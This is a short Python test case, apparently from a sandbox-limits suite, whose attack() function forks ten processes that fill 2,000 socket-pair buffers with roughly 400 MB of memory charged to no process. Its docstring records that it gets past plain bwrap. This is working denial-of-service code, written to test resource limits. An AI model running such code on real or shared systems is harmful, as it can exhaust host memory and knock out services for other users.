"""Fills the buffers of two thousand pairs of sockets with 400 MB, which belong to no process.

stopped_by: what sockets hold counts
plain bwrap: succeeds
"""

import os
import socket
import time


def attack():
    for _ in range(10):
        if os.fork() == 0:
            kept = []
            for _ in range(200):
                ends = socket.socketpair()
                kept.append(ends)
                ends[0].setblocking(False)
                try:
                    while True:
                        ends[0].send(bytes(1 << 16))
                except BlockingIOError:
                    continue
            time.sleep(3)
            os._exit(0)
    time.sleep(2)
    return 1.0
